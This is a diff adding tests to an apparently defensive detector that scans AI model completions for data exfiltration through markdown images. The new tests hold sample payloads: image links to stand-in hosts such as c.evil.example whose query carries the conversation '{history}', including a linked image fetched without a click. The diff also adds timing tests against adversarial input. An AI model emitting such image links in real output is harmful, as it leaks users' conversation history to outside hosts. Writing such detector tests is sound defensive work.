@@ -1,4 +1,5 @@
 import base64
+import time
 from typing import Any
 from urllib.parse import quote
 
@@ -63,3 +64,25 @@ def test_findings_point_at_the_address() -> None:
 
 def test_many_addresses_are_bounded() -> None:
     assert len(DETECTOR.inspect(event({"gen_ai.completion": "![p](https://c.example/?d={x}) " * 500}), frozenset({0}), Memory())) == 100
+
+
+def test_a_linked_image_is_fetched_without_a_click() -> None:
+    (found,) = DETECTOR.inspect(event({"gen_ai.completion": "[![p](https://c.example/p.png?d={history})](https://c.example/)"}), frozenset({0}), Memory())
+    assert found.type == "exfiltration.image"
+
+
+def test_an_answer_in_parts_is_read_as_its_offsets_count() -> None:
+    (found,) = DETECTOR.inspect(event({"gen_ai.completion": ["é", "![p](https://c.example/p.png?d={history})"]}), frozenset({0}), Memory())
+    assert (found.start, found.end) == (7, 42)
+
+
+def test_harmless_addresses_hide_none() -> None:
+    assert inspected("![p](https://a.example/p.png) " * 3_000 + "![p](https://c.evil.example/p.png?d={history})")["hosts"] == ["c.evil.example"]
+
+
+@pytest.mark.parametrize("part", ["[", "<a ", "<img src=", "](https://a.b/", "src=https://a.b/", "![a](https://a.b/c?d=" + "_" * 3_900 + ") "])
+def test_time_is_linear(part: str) -> None:
+    """A million characters of `<a ` took twelve seconds."""
+    began = time.process_time()
+    inspected("![p](https://a.example/p.png) " + part * (1_000_000 // len(part)))
+    assert time.process_time() - began < 4
